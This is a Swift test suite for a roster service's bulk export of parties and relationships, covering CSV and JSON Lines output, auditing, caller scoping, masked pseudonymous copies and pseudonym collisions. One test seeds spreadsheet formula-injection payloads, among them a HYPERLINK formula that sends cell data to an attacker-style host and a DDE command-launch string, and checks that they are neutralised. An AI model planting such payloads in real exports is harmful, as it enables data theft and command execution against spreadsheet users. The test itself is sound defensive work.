import Foundation
import RosterApp
import RosterCore
import RosterService
import RosterStore
import Testing

/// Bulk export of a tenant's parties (issue 12, item 4): the import's columns, scoped, audited, masked copies that
/// import into a fresh tenant.
@Suite("Bulk export")
struct BulkExportTests {
    static func bytes(_ export: PartiesExport) async throws -> [UInt8] {
        var all: [UInt8] = []
        for try await chunk in export { all += chunk }
        return all
    }

    static func text(_ export: PartiesExport) async throws -> String {
        String(decoding: try await bytes(export), as: UTF8.self)
    }

    /// Writes the bytes to a file and reads them back as `roster import parties` does.
    static func importRows(_ bytes: [UInt8], format: BulkFormat) throws -> [PartyImportRow] {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("export-\(UUID()).\(format.rawValue)").path
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        defer { try? FileManager.default.removeItem(atPath: path) }
        let reader = try PartyImportReader(path: path, format: format == .csv ? .csv : .jsonl)
        var rows: [PartyImportRow] = []
        while let row = try reader.next() { rows.append(row) }
        return rows
    }

    static func rows(_ rows: [PartyImportRow]) -> () -> PartyImportRow? {
        var iterator = rows.makeIterator()
        return { iterator.next() }
    }

    /// A tenant with people, an organization sharing a person's email, a partner with a tag, properties of each JSON
    /// type, a note and a deleted party; pages of 2 so that the export takes several.
    static func seed(_ rt: RosterRuntime) async throws -> (String, [Party]) {
        let t = try await rt.makeTenant().slug
        let s = rt.services
        var made: [Party] = []
        made.append(try await s.parties.create(tenant: t, PartyInput(kind: .person, firstName: "Ann", lastName: "Archer", email: "ann@farm.example",
                                                                     phone: "020 7946 0958", note: "met at the fair, \"keen\"",
                                                                     customerType: .regular, roles: ["customer"],
                                                                     properties: ["code": .string("  A-7\t"), "crop": .string("wheat, oats"),
                                                                                  "hectares": .double(42.5), "organic": .bool(true),
                                                                                  "rank": .int(3)]), context: .test))
        made.append(try await s.parties.create(tenant: t, PartyInput(kind: .organization, name: "Farm Co", email: "ANN@farm.example",
                                                                     website: "https://farm.example", roles: ["partner"]), context: .test))
        made.append(try await s.parties.create(tenant: t, PartyInput(kind: .person, firstName: "Bob", lastName: "Archer",
                                                                     email: "bob@farm.example"), context: .test))
        made.append(try await s.parties.create(tenant: t, PartyInput(kind: .person, firstName: "Cy", phone: "+1 555 123 4567"), context: .test))
        _ = try await s.tags.attach(tenant: t, party: made[1].id, text: "Key Partner", color: nil, context: .test)
        // A tag with ";" would split in two through a CSV export and import: refused where tags are made.
        await expectRosterError({ try await s.tags.attach(tenant: t, party: made[1].id, text: "a;b", color: nil, context: .test) }) {
            $0.invalidFields == ["text"]
        }
        let gone = try await s.parties.create(tenant: t, PartyInput(kind: .person, firstName: "Gone", email: "gone@farm.example"), context: .test)
        _ = try await s.parties.delete(tenant: t, id: gone.id, reason: nil, context: .test)
        return (t, made)
    }

    @Test(arguments: StoreKind.allCases)
    func csvAndJSONLinesHoldEveryLivePartyInTheImportsColumns(_ kind: StoreKind) async throws {
        try await TestDatabase.with(kind) { rt in
            let (t, made) = try await Self.seed(rt)
            let csv = try await rt.services.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv, pageSize: 2), context: .test)
            #expect(csv.total == 4)
            #expect(csv.columns == PartiesExport.baseColumns + ["properties.code", "properties.crop", "properties.hectares",
                                                                 "properties.organic", "properties.rank", "properties.website"])
            let text = try await Self.text(csv)
            let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
            #expect(lines.first == Substring(csv.columns.joined(separator: ",")))
            #expect(lines.count == 6 && lines.last == "", "\(text)")  // header, four parties, final newline
            #expect(!text.contains("Gone"))
            // Quoted where RFC 4180 needs it, with the import's spellings of phones, lists and properties.
            #expect(text.contains("person,Ann,Archer,,ann@farm.example,+442079460958,,\"met at the fair, \"\"keen\"\"\",regular,customer,,\"  A-7\t\",\"wheat, oats\",42.5,true,3,"),
                    "\(text)")
            #expect(text.contains("organization,,,Farm Co,ANN@farm.example,,https://farm.example,,,partner,Key Partner,,,,,,https://farm.example"))

            // What the export holds reads back as the rows that would make these parties.
            let rows = try Self.importRows(Array(text.utf8), format: .csv)
            #expect(rows.map(\.email) == made.map { $0.email?.value })
            #expect(rows.allSatisfy { $0.problems.isEmpty })
            // A value with white space at its ends is quoted, so that the import (which trims unquoted fields) keeps it.
            #expect(rows[0].properties["code"] == .string("  A-7\t"))

            let jsonl = try await Self.bytes(rt.services.exports.exportParties(tenant: t, PartiesExportOptions(format: .jsonl, pageSize: 3),
                                                                              context: .test))
            let objects = try jsonl.split(separator: UInt8(ascii: "\n")).map { try JSONSerialization.jsonObject(with: Data($0)) as? [String: Any] }
            #expect(objects.count == 4)
            let ann = try #require(objects.first ?? nil)
            #expect(ann["hectares"] == nil && (ann["properties"] as? [String: Any])?["hectares"] as? Double == 42.5)
            #expect((ann["properties"] as? [String: Any])?["organic"] as? Bool == true)
            let jsonRows = try Self.importRows(jsonl, format: .jsonl)
            #expect(jsonRows.first?.properties["rank"] == .int(3) && jsonRows.allSatisfy { $0.problems.isEmpty })
            #expect(jsonRows[1].tags == ["Key Partner"] && jsonRows[1].roles == ["partner"])
        }
    }

    /// An unmasked export records itself and every party it read; a masked one only itself.
    @Test(arguments: StoreKind.allCases)
    func exportsAreAudited(_ kind: StoreKind) async throws {
        try await TestDatabase.with(kind) { rt in
            let (t, made) = try await Self.seed(rt)
            _ = try await Self.bytes(rt.services.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv, pageSize: 3), context: .test))
            var entries = try await rt.services.audit.list(tenant: t, cursor: nil, limit: 20, context: .test).items
            let reads = entries.filter { $0.action == "party.export" }.compactMap(\.targetID)
            #expect(Set(reads) == Set(made.map(\.id.description)) && reads.count == 4)
            let whole = try #require(entries.first { $0.action == "parties.export" })
            #expect(whole.fields.contains("csv") && whole.fields.contains("email") && !whole.fields.contains("mask"))
            // Property keys are the parties' own words: "properties" alone (found by a probe).
            #expect(whole.fields.contains("properties") && !whole.fields.contains { $0.hasPrefix("properties.") }, "\(whole.fields)")

            _ = try await Self.bytes(rt.services.exports.exportParties(tenant: t, PartiesExportOptions(format: .jsonl, mask: true), context: .test))
            entries = try await rt.services.audit.list(tenant: t, cursor: nil, limit: 20, context: .test).items
            #expect(entries.first?.action == "parties.export" && entries.first?.fields.contains("mask") == true)
            // JSON Lines carries the properties too: said (it was left out; found by a re-test).
            #expect(entries.first?.fields.contains("properties") == true, "\(entries.first?.fields ?? [])")
            #expect(entries.filter { $0.action == "party.export" }.count == 4)
            // No value in any entry: field names only.
            for entry in entries { #expect(!entry.fields.contains { $0.contains("farm.example") }) }
        }
    }

    /// A masked export has none of the personal values, keeps equal values equal, and imports into a fresh tenant
    /// with no refused row (and a second masked export with the same passphrase agrees with the first).
    @Test(arguments: StoreKind.allCases)
    func aMaskedExportImportsIntoAFreshTenant(_ kind: StoreKind) async throws {
        try await TestDatabase.with(kind) { rt in
            let (t, _) = try await Self.seed(rt)
            let options = PartiesExportOptions(format: .csv, mask: true, maskPassphrase: "test copy", pageSize: 2)
            let text = try await Self.text(rt.services.exports.exportParties(tenant: t, options, context: .test))
            for secret in ["Ann", "Archer", "Bob", "@farm.example", "ann@", "2079460958", "5551234567", "keen", "wheat", "Farm Co"] {
                #expect(!text.contains(secret), "\(secret) is in the masked export")
            }
            let rows = try Self.importRows(Array(text.utf8), format: .csv)
            // The person and the organization shared an email (case aside): their pseudonyms are equal too; Ann and Bob
            // shared a last name and a domain.
            #expect(rows[0].email?.lowercased() == rows[1].email?.lowercased())
            #expect(rows[0].lastName == rows[2].lastName)
            #expect(rows[0].email?.split(separator: "@").last == rows[2].email?.split(separator: "@").last)
            // Kept: the kind, roles, tags, the customer type, numbers and the website.
            #expect(rows[0].properties["hectares"] == .string("42.5") && rows[1].website == "https://farm.example")
            #expect(rows[1].tags == ["Key Partner"] && rows[0].customerType == "regular")
            let again = try await Self.text(rt.services.exports.exportParties(tenant: t, options, context: .test))
            #expect(again == text)

            let copy = try await rt.makeTenant().slug
            let report = try await rt.services.imports.run(tenant: copy, digest: nil, onDuplicate: .fail, context: .test, next: Self.rows(rows))
            #expect(report.created == 4 && report.refused == 0, "\(report.errors)")
            // The copy exports as the masked file did.
            let copied = try await Self.text(rt.services.exports.exportParties(tenant: copy, PartiesExportOptions(format: .csv), context: .test))
            #expect(Set(copied.split(separator: "\n").dropFirst()) == Set(text.split(separator: "\n").dropFirst()))
        }
    }

    /// A spreadsheet-safe CSV starts every field a spreadsheet would run as a formula with an apostrophe (a name
    /// `=HYPERLINK(...)` was a live link in the console's download; found by a probe), and imports back as it was.
    @Test(arguments: StoreKind.allCases)
    func aSpreadsheetSafeExportRunsNoFormulaAndImportsAsItWas(_ kind: StoreKind) async throws {
        try await TestDatabase.with(kind) { rt in
            let t = try await rt.makeTenant().slug
            let s = rt.services
            let link = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
            _ = try await s.parties.create(tenant: t, PartyInput(kind: .organization, name: link, note: "+cmd|' /C calc'!A0",
                                                                 properties: ["sum": .string("@SUM(1+1)"), "dash": .string("-1"),
                                                                              "plain": .string("'quoted"), "own": .string("'=already")]),
                                           context: .test)
            _ = try await s.parties.create(tenant: t, PartyInput(kind: .person, firstName: "-Ann", email: "-ann@farm.example"), context: .test)
            let plain = try await Self.text(s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv), context: .test))
            #expect(plain.contains("\"" + link.replacingOccurrences(of: "\"", with: "\"\"") + "\""), "as stored, unless asked")
            let safe = try await Self.text(s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv, spreadsheetSafe: true),
                                                                   context: .test))
            let fields = safe.split(separator: "\n").dropFirst().flatMap { $0.split(separator: ",", omittingEmptySubsequences: false) }
            for field in fields {
                let text = field.hasPrefix("\"") ? field.dropFirst() : field
                #expect(!(text.first.map { "=+-@".contains($0) } ?? false), "\(field) starts a formula")
            }
            #expect(safe.contains("'-Ann") && safe.contains("'@SUM(1+1)") && safe.contains(",'quoted") && safe.contains("''=already"), "\(safe)")
            let rows = try Self.importRows(Array(safe.utf8), format: .csv)
            #expect(rows.allSatisfy { $0.problems.isEmpty })
            let copy = try await rt.makeTenant().slug
            let report = try await s.imports.run(tenant: copy, digest: nil, onDuplicate: .fail, context: .test, next: Self.rows(rows))
            #expect(report.created == 2 && report.refused == 0, "\(report.errors)")
            let copied = try await Self.text(s.exports.exportParties(tenant: copy, PartiesExportOptions(format: .csv), context: .test))
            #expect(Set(copied.split(separator: "\n").dropFirst()) == Set(plain.split(separator: "\n").dropFirst()), "\(copied)")
        }
    }

    /// A scoped caller exports its subtree only; a caller without parties.read, or of another tenant, gets nothing.
    @Test(arguments: StoreKind.allCases)
    func aScopedCallerExportsItsSubtree(_ kind: StoreKind) async throws {
        try await TestDatabase.with(kind) { rt in
            let (t, made) = try await Self.seed(rt)
            let s = rt.services
            let north = try await s.parties.create(tenant: t, PartyInput(kind: .organization, name: "North"), context: .test)
            _ = try await s.relationships.create(tenant: t, RelationshipInput(parentID: north.id, childID: made[2].id, type: "sales"), context: .test)
            let role = try await s.access.createRole(tenant: t, name: "North", policies: ["parties.read"], organizationID: north.id,
                                                     relationshipType: "sales", context: .test)
            let (key, _) = try await s.apiKeys.create(tenant: t, name: "north", role: .user, roleIDs: [role.id], context: .test)
            let scoped = OperationContext(caller: Caller(principal: .apiKey(key.id.description), tenantSlug: t, role: .user, roleIDs: [role.id]),
                                          requestID: "t")
            let export = try await s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv), context: scoped)
            #expect(export.total == 2)
            // No property key of a party outside the subtree shows in the header.
            #expect(export.columns == PartiesExport.baseColumns)
            let text = try await Self.text(export)
            #expect(text.contains("Bob") && text.contains("North") && !text.contains("Ann"), "\(text)")

            // A page read ahead goes out as the caller's scope stands when it is sent: Cy, below North when the page was
            // read, is left out once the edge is gone.
            let cyEdge = try await s.relationships.create(tenant: t, RelationshipInput(parentID: north.id, childID: made[3].id, type: "sales"),
                                                          context: .test)
            let ahead = try await s.exports.exportParties(tenant: t, PartiesExportOptions(format: .jsonl, pageSize: 1), context: scoped)
            var chunks = ahead.makeAsyncIterator()
            var sent = String(decoding: try #require(try await chunks.next()), as: UTF8.self)
            try await Task.sleep(for: .milliseconds(200))  // the next page (Cy) is read meanwhile
            try await s.relationships.delete(tenant: t, id: cyEdge.id, context: .test)
            while let chunk = try await chunks.next() { sent += String(decoding: chunk, as: UTF8.self) }
            #expect(sent.contains("Bob") && sent.contains("North") && !sent.contains("\"Cy\""), "\(sent)")

            // A key revoked during an export ends it at the next page.
            let paged = try await s.exports.exportParties(tenant: t, PartiesExportOptions(format: .jsonl, pageSize: 1), context: scoped)
            var pages = paged.makeAsyncIterator()
            #expect(try await pages.next() != nil)
            try await s.apiKeys.revoke(tenant: t, id: key.id, context: .test)
            await expectRosterError({ _ = try await pages.next() }) { if case .unauthorized = $0 { true } else { false } }

            let writer = try await s.access.createRole(tenant: t, name: "Writers", policies: ["relationships.write"], organizationID: nil,
                                                       relationshipType: nil, context: .test)
            let unable = OperationContext(caller: Caller(principal: .apiKey("w"), tenantSlug: t, role: .user, roleIDs: [writer.id]),
                                          requestID: "t")
            await expectRosterError({ try await s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv), context: unable) }) {
                if case .forbidden = $0 { return true } else { return false }
            }
            let other = try await rt.makeTenant().slug
            let outsider = OperationContext(caller: Caller(principal: .apiKey("o"), tenantSlug: other, role: .admin, roleIDs: []),
                                            requestID: "t")
            await expectRosterError({ try await s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv), context: outsider) }) {
                $0.isNotFound
            }
        }
    }

    /// The relationships export (both stores): each end by the key only it holds (an email an organization shares with a
    /// person, or a name two organizations share, falls back to the next way, then to the id), edges to deleted parties
    /// left out, `party.export` entries for the parties named unmasked and none masked, and a masked copy of parties and
    /// edges with one passphrase that imports into a fresh tenant with the same shape.
    @Test(arguments: StoreKind.allCases)
    func relationshipsExportedAndCopied(_ kind: StoreKind) async throws {
        try await TestDatabase.with(kind) { rt in
            let t = try await rt.makeTenant().slug
            let s = rt.services
            func party(_ input: PartyInput) async throws -> Party { try await s.parties.create(tenant: t, input, context: .test) }
            let north = try await party(PartyInput(kind: .organization, name: "North", email: "desk@north.example"))
            let twin = try await party(PartyInput(kind: .organization, name: "Twin"))
            _ = try await party(PartyInput(kind: .organization, name: "Twin", email: "twin2@example.com"))
            let shared = try await party(PartyInput(kind: .person, firstName: "Desk", email: "DESK@north.example", phone: "020 7946 0958"))
            let ann = try await party(PartyInput(kind: .person, firstName: "Ann", email: "ann@example.com"))
            let cy = try await party(PartyInput(kind: .person, firstName: "Cy"))
            let gone = try await party(PartyInput(kind: .person, firstName: "Gone", email: "gone@example.com"))
            // Names that differ in case only: each is the only one of its exact name, and masked each keeps a pseudonym
            // of its own (accented its own way), which the duplicate finder still holds one name.
            let caseOrg = try await party(PartyInput(kind: .organization, name: "Case Org"))
            _ = try await party(PartyInput(kind: .organization, name: "CASE ORG"))
            let dee = try await party(PartyInput(kind: .person, firstName: "Dee", email: "dee@example.com"))
            // An organization child with neither email nor phone: by its name, as a parent organization is (it was by its id,
            // and a masked copy lost its organization tree; found by a probe).
            let branch = try await party(PartyInput(kind: .organization, name: "Branch"))
            for (parent, child, type) in [(north, ann, "sales"), (twin, shared, "sales"), (north, cy, "sales"), (north, gone, "sales"),
                                          (north, twin, "structure"), (caseOrg, dee, "sales"), (north, branch, "structure")] {
                _ = try await s.relationships.create(tenant: t, RelationshipInput(parentID: parent.id, childID: child.id, type: type,
                                                                                 role: type == "structure" ? "branch" : nil), context: .test)
            }
            _ = try await s.parties.delete(tenant: t, id: gone.id, context: .test)
            func text(_ options: PartiesExportOptions) async throws -> String {
                var bytes: [UInt8] = []
                for try await chunk in try await s.exports.exportRelationships(tenant: t, options, context: .test) { bytes += chunk }
                return String(decoding: bytes, as: UTF8.self)
            }
            let lines = try await text(PartiesExportOptions(format: .csv, pageSize: 2)).split(separator: "\n").map(String.init)
            // North's email is also Desk's (another kind): by name. Twin's name is another's too: by id. Desk: by phone.
            #expect(Set(lines.dropFirst()) == [",ann@example.com,,,,,North,sales,,,", "\(cy.id),,,,,,North,sales,,,",
                                               ",,+442079460958,,\(twin.id),,,sales,,,", "\(twin.id),,,,,,North,structure,branch,,",
                                               ",dee@example.com,,,,,Case Org,sales,,,", ",,,Branch,,,North,structure,branch,,"],
                    "\(lines)")
            let exported = try await s.audit.list(tenant: t, filter: AuditFilter(action: "party.export"), cursor: nil, limit: 100, context: .test)
            #expect(Set(exported.items.compactMap(\.targetID)) == Set([north, ann, shared, caseOrg, dee, branch].map(\.id.description)))
            // A party named on several pages (North) has an entry for each.
            #expect(exported.items.count >= 3)
            #expect(try await s.audit.list(tenant: t, filter: AuditFilter(action: "relationships.export"), cursor: nil, limit: 100,
                                           context: .test).items.count == 1)

            // Masked, with the parties' passphrase: no personal value, and no party.export entry.
            let key = PartiesExportOptions(format: .jsonl, mask: true, maskPassphrase: "copy")
            let masked = try await text(key)
            #expect(!masked.contains("example.com") && !masked.contains("north.example") && !masked.contains("North") && !masked.contains("Branch")
                    && !masked.contains("7946"), "\(masked)")
            #expect(!masked.contains(#""parentId":"\#(caseOrg.id)""#), "\(masked)")
            #expect(try await s.audit.list(tenant: t, filter: AuditFilter(action: "party.export"), cursor: nil, limit: 100,
                                           context: .test).items.count == exported.items.count)
            var partyBytes: [UInt8] = []
            for try await chunk in try await s.exports.exportParties(tenant: t, key, context: .test) { partyBytes += chunk }
            let copy = try await rt.makeTenant().slug
            let imported = try await s.imports.run(tenant: copy, digest: nil, onDuplicate: .fail, context: .test,
                                                   next: Self.rows(try Self.importRows(partyBytes, format: .jsonl)))
            #expect(imported.created == 10 && imported.refused == 0, "\(imported)")
            let path = FileManager.default.temporaryDirectory.appendingPathComponent("edges-\(UUID()).jsonl").path
            try Data(masked.utf8).write(to: URL(fileURLWithPath: path))
            defer { try? FileManager.default.removeItem(atPath: path) }
            let reader = try RelationshipImportReader(path: path, format: .jsonl)
            let edges = try await s.relationshipImports.run(tenant: copy, digest: nil, onDuplicate: .fail, context: .test) { try reader.next() }
            // Ann's edge (by email, below North by name), Dee's (below Case Org's own pseudonym) and Branch's (by its
            // pseudonym, below North's) arrive; those naming Cy or Twin by id only resolve at home.
            #expect(edges.created == 3 && edges.refused == 3 && edges.errors.allSatisfy { ["childId", "parentId"].contains($0.field) },
                    "\(edges)")
        }
    }

    /// Pseudonyms of different names may collide ("Johl" and "Mgme" under the key "K", found by a probe; since spellings
    /// accent their pseudonyms, "Aaen" and "Avyi", found by searching four-letter names): masked, a
    /// parent organization whose pseudonym another organization shares is named by its id, wherever the other's edges
    /// are (or if it has none); for a caller that can't read the other, by its pseudonym, so that the choice tells
    /// nothing of parties outside its reach.
    @Test(arguments: StoreKind.allCases)
    func collidingPseudonymsAreNamedById(_ kind: StoreKind) async throws {
        let key = Pseudonyms(passphrase: "K")
        try #require(key.name("Aaen") == key.name("Avyi"), "the names no longer collide under this key: pick two that do")
        try await TestDatabase.with(kind) { rt in
            let t = try await rt.makeTenant().slug
            let s = rt.services
            func party(_ input: PartyInput) async throws -> Party { try await s.parties.create(tenant: t, input, context: .test) }
            let region = try await party(PartyInput(kind: .organization, name: "Region"))
            let johl = try await party(PartyInput(kind: .organization, name: "Aaen"))
            _ = try await party(PartyInput(kind: .organization, name: "Avyi"))
            let ann = try await party(PartyInput(kind: .person, firstName: "Ann", email: "ann@example.com"))
            for (parent, child) in [(region, johl), (johl, ann)] {
                _ = try await s.relationships.create(tenant: t, RelationshipInput(parentID: parent.id, childID: child.id, type: "sales"),
                                                     context: .test)
            }
            func masked(_ context: OperationContext) async throws -> String {
                var bytes: [UInt8] = []
                let options = PartiesExportOptions(format: .csv, mask: true, maskPassphrase: "K")
                for try await chunk in try await s.exports.exportRelationships(tenant: t, options, context: context) { bytes += chunk }
                return String(decoding: bytes, as: UTF8.self)
            }
            let platform = try await masked(.test)
            #expect(platform.contains(",\(johl.id),,,sales,") && !platform.contains(key.name("Aaen")), "\(platform)")
            // Below Region: Avyi is out of reach, so Aaen's pseudonym is its own as far as this caller can tell.
            let role = try await s.access.createRole(tenant: t, name: "Region", policies: ["parties.read"], organizationID: region.id,
                                                     relationshipType: nil, context: .test)
            let (apiKey, _) = try await s.apiKeys.create(tenant: t, name: "region", role: .user, roleIDs: [role.id], context: .test)
            let scoped = OperationContext(caller: Caller(principal: .apiKey(apiKey.id.description), tenantSlug: t, role: .user, roleIDs: [role.id]),
                                          requestID: "t")
            let inside = try await masked(scoped)
            #expect(inside.contains(",,,\(key.name("Aaen")),sales,") && !inside.contains(",\(johl.id),,,sales,"), "\(inside)")
        }
    }
}

